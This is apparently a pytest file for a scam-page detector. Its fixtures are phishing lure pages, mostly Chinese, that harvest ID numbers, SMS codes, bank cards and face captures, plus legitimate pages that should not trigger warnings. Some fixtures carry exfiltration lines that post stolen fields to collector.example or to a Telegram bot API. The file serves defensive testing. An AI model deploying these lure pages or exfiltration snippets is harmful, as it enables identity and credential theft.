"""Landing-page analysis on hand-written fixtures: static forms, script-built forms, purpose."""

from __future__ import annotations

import time

import pytest

from scanner.bench.evaldetect import page_adapter
from scanner.heuristics.page import analyze_html, classify_key, classify_label

LURE_STATIC = """<html><head><title>兼职招募-注册领佣金</title></head><body>
<h1>兼职招募 · 注册领佣金</h1><p>每单佣金50元，当天日结，名额有限</p>
<form action="/api/reg" method="post">
<label for="n">真实姓名</label><input id="n" name="realName">
<label for="i">身份证号</label><input id="i" name="idCard" placeholder="请输入18位身份证号码">
<label for="m">手机号码</label><input id="m" type="tel" name="mobile">
<label for="c">短信验证码</label><input id="c" name="smsCode"><button type="button">获取验证码</button>
<input type="hidden" name="token" value="x"><input type="submit" value="提交">
</form></body></html>"""

# The same lure, but every field is built by a script: a config array with pinyin keys.
LURE_SCRIPT_CONFIG = """<html><head><title>福利登记</title></head><body><div id="app"></div>
<p>免费领取新人礼包，0元包邮，仅限今天！</p>
<script>
var fields = [{k:'xm', t:'姓名'}, {k:'sfzh', t:'身份证号'}, {k:'sjh', t:'手机号'}, {k:'yzm', t:'短信验证码'},
              {k:'yhkh', t:'银行卡号'}];
fields.forEach(function(f){ var i = document.createElement('input'); i.name = f.k;
i.placeholder = '请输入' + f.t;
  document.getElementById('app').appendChild(i); });
</script></body></html>"""

LURE_VUE = """<html><body><div id="app"><h2>积分即将清零，立即兑换现金</h2>
<input v-model="form.cardNo" placeholder="请输入银行卡号">
<input v-model="form.fwmm" type="password" placeholder="服务密码">
<input v-model="form.yzm" placeholder="验证码"></div>
<script>new Vue({el:'#app', data:{form:{cardNo:'', fwmm:'', yzm:''}}});</script></body></html>"""

LURE_FORMDATA = """<html><body>
<p>Work from home and earn $300/day! Daily payout. Verify your identity to start.</p>
<div id="f"></div><script>
const fd = new FormData(); fd.append('fullName', a.value); fd.append('ssn', b.value);
fd.append('otp', c.value);
fetch('https://collector.example/x', {method:'POST', body: fd});
</script></body></html>"""

LURE_TEMPLATE_STRING = """<html><body><h1>助贷 · 无视征信 · 秒下款</h1><div id="box"></div><script>
var html = '<form><label>身份证号</label><input name="a1">' +
  '<label>银行卡号</label><input name="a2"></form>';
document.getElementById('box').innerHTML = html;
</script></body></html>"""

CAMERA = """<html><body><h1>刷脸认证领取佣金</h1><p>兼职日结，返佣金</p><label>姓名</label>
<input name="xm"><label>身份证</label>
<input name="sfz"><video id="v"></video><script>
navigator.mediaDevices.getUserMedia({video:{facingMode:'user'}}).then(s=>{v.srcObject=s;
 var c=document.createElement('canvas'); c.getContext('2d').drawImage(v,0,0); upload(c.toDataURL());});
</script></body></html>"""

ID_UPLOAD = """<html><body><h1>快速下款</h1><p>身份证+手机号即可申请，无视征信</p>
<div><span>身份证人像面</span><input type="file" name="front" accept="image/*"></div>
<div><span>身份证国徽面</span><input type="file" name="back" accept="image/*"></div>
<label for="p">手机</label><input id="p" name="p"></body></html>"""

OFFICIAL_LOGIN = """<html><head><title>京东-欢迎登录</title></head><body><div class="logo">京东</div>
<form action="https://passport.jd.com/uc/login" method="post">
<input name="loginname" placeholder="邮箱/用户名/手机号"><input type="password" name="pwd" placeholder="密码">
</form><footer>© 京东 JD.com 版权所有</footer></body></html>"""

ANTIFRAUD = """<html><head><title>警方提醒：高佣金注册APP兼职骗局</title></head><body>
<h1>兼职刷单就是诈骗</h1>
<p>“注册APP领佣金、日结”都是骗局。警方提醒：不要向他人提供身份证号、短信验证码，切勿刷脸。如有疑问请拨打96110。</p>
</body></html>"""

EN_LOGIN_NEWS = (
    """<html><head><title>Daily News</title></head><body><article>"""
    + ("The police said a man won the lottery and a bank warned about account suspended messages. " * 80)
    + """</article><form action="/login"><input name="userid" placeholder="Email address">
<input type="password" name="password" placeholder="Password"></form></body></html>"""
)

APK = """<html><head><title>新人红包</title></head><body><h1>新人注册领88元现金</h1>
<p>下载APP · 注册即送 · 邀请好友再返佣金</p>
<a href="/dl/app_release.apk">立即下载APP领取</a><p>安装时如提示“风险应用”请选择“继续安装”。</p>
</body></html>"""


def test_static_form_pii_and_warning() -> None:
    f = analyze_html(LURE_STATIC, "http://jz-reg.top/reg")
    assert set(f.pii) == {"real_name", "id_card", "phone", "sms_code"}
    assert any(r.code == "page.pii_with_lure" for r in f.reasons)
    assert page_adapter(LURE_STATIC, "http://jz-reg.top/reg")["warn"]


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        (LURE_SCRIPT_CONFIG, {"real_name", "id_card", "phone", "sms_code", "bank_card"}),
        (LURE_VUE, {"bank_card", "password", "sms_code"}),
        (LURE_FORMDATA, {"real_name", "id_card", "sms_code"}),
        (LURE_TEMPLATE_STRING, {"id_card", "bank_card"}),
        (CAMERA, {"real_name", "id_card", "face"}),
        (ID_UPLOAD, {"id_card", "phone"}),
    ],
)
def test_fields_that_only_exist_in_scripts_or_uploads(html: str, expected: set[str]) -> None:
    f = analyze_html(html, "http://fresh-domain.example/x")
    assert set(f.pii) == expected
    assert page_adapter(html, "http://fresh-domain.example/x")["warn"]


def test_service_password_is_named() -> None:
    f = analyze_html(LURE_VUE, "http://fresh-domain.example/")
    assert any(r.code == "page.payment_password" for r in f.reasons)


def test_official_login_on_its_own_domain_is_quiet() -> None:
    out = page_adapter(OFFICIAL_LOGIN, "https://passport.jd.com/new/login.aspx")
    assert set(out["pii"]) == {"phone", "password"}
    assert not out["warn"]


def test_same_login_on_foreign_domain_is_brand_mismatch() -> None:
    f = analyze_html(OFFICIAL_LOGIN, "http://jd-login-check.top/")
    assert f.brand == "京东"
    assert any(r.code == "page.brand_mismatch" and r.weight >= 60 for r in f.reasons)
    assert page_adapter(OFFICIAL_LOGIN, "http://jd-login-check.top/")["warn"]


def test_antifraud_article_is_quiet() -> None:
    out = page_adapter(ANTIFRAUD, "https://news.example.cn/a.html")
    assert out["pii"] == []
    assert not out["warn"]


def test_long_article_with_login_is_quiet() -> None:
    out = page_adapter(EN_LOGIN_NEWS, "https://news.example.com/")
    assert out["pii"] == ["password"]
    assert not out["warn"]


def test_apk_lure_without_form_warns() -> None:
    f = analyze_html(APK, "http://hongbao-app.example/")
    assert any(r.code == "page.apk_download" for r in f.reasons)
    assert page_adapter(APK, "http://hongbao-app.example/")["warn"]


def test_lure_words_without_form_are_at_most_caution() -> None:
    html = "<html><body><h1>兼职日结 高佣金 注册APP领佣金 刷单返利 免费领礼品 积分兑换现金</h1></body></html>"
    out = page_adapter(html, "https://plain.example/")
    assert out["level"] in ("safe", "caution")


def test_telegram_exfiltration() -> None:
    html = (
        "<html><body><input type=password name=p><script>fetch('https://api.telegram.org/bot123:abc/"
        "sendMessage?chat_id=1&text='+p.value)</script></body></html>"
    )
    f = analyze_html(html, "https://x.example/")
    assert any(r.code == "page.telegram_exfil" for r in f.reasons)


def test_hostile_html_is_bounded() -> None:
    html = "<div>" * 200_000 + "<input name=sfzh>" + "<script>" + "var a='x';" * 100_000 + "</script>"
    t0 = time.perf_counter()
    f = analyze_html(html, "not a url")
    assert time.perf_counter() - t0 < 10
    assert isinstance(f.pii, tuple)


def test_empty_and_garbage() -> None:
    assert analyze_html("", "").pii == ()
    assert analyze_html("\x00\xff<<<>>>", "http://[::1").reasons == ()


@pytest.mark.parametrize(
    ("key", "kind"),
    [
        ("sfzh", "id_card"),
        ("idCard", "id_card"),
        ("form.yzm", "sms_code"),
        ("yhkh", "bank_card"),
        ("user[mobile]", "phone"),
        ("qkmm", "password"),
        ("xingming", "real_name"),
        ("shdz", "address"),
        ("search", None),
        ("email", None),
    ],
)
def test_classify_key(key: str, kind: str | None) -> None:
    assert classify_key(key) == kind


@pytest.mark.parametrize(
    ("label", "kind"),
    [
        ("请输入与身份证一致的姓名", "real_name"),
        ("持卡人身份证号码", "id_card"),
        ("图形验证码", None),
        ("邮箱地址", None),
        ("身分證字號", "id_card"),
        ("簡訊驗證碼", "sms_code"),
        ("Card number", "bank_card"),
        ("用户名", None),
    ],
)
def test_classify_label(label: str, kind: str | None) -> None:
    assert classify_label(label) == kind


def test_template_markup_is_read() -> None:
    html = (
        "<html><body><h1>积分兑换现金，积分即将清零</h1><template id=t><label>身份证号</label><input name=a>"
        "</template><script type='text/x-template' id=x><div><label>银行卡号</label>"
        "<input v-model='form.k'></div></script></body></html>"
    )
    f = analyze_html(html, "http://jf-dh.example/")
    assert {"id_card", "bank_card"} <= set(f.pii)


def test_unlisted_service_with_icp_and_no_lure_is_not_danger() -> None:
    html = (
        "<html><head><title>开户申请</title></head><body><form>"
        "<label for=a>姓名</label><input id=a><label for=b>身份证号</label><input id=b>"
        "<label for=c>银行卡号</label><input id=c><label for=d>短信验证码</label><input id=d>"
        "</form><footer>沪ICP备12345678号</footer></body></html>"
    )
    out = page_adapter(html, "https://kaihu.example-securities.com.cn/open")
    assert out["level"] != "danger"
    assert page_adapter(html, "http://kaihu-fuli.top/open")["warn"]


def test_payment_logos_in_footer_are_not_a_brand_claim() -> None:
    html = (
        "<html><head><title>小店 - 会员登录</title></head><body><h1>小店会员登录</h1><form>"
        "<input name=mobile placeholder='手机号'><input type=password name=pwd placeholder='密码'></form>"
        "<footer>支持支付宝、微信支付、中国银联 | © 2025 小店</footer></body></html>"
    )
    f = analyze_html(html, "https://shop.example.cn/login")
    assert f.brand is None
    assert not page_adapter(html, "https://shop.example.cn/login")["warn"]


def test_checkout_with_card_fields_on_a_shop_is_quiet() -> None:
    html = (
        "<html><head><title>Checkout</title></head><body><h1>Checkout</h1><form action='/pay'>"
        "<label for=n>Name on card</label><input id=n autocomplete=cc-name>"
        "<label for=c>Card number</label><input id=c autocomplete=cc-number>"
        "<label for=e>Expiry</label><input id=e autocomplete=cc-exp>"
        "<label for=v>CVC</label><input id=v autocomplete=cc-csc>"
        "<label for=a>Street address</label><input id=a autocomplete=street-address>"
        "</form><p>Free shipping on orders over $50.</p></body></html>"
    )
    out = page_adapter(html, "https://www.example-store.com/checkout")
    assert "bank_card" in out["pii"]
    assert not out["warn"]
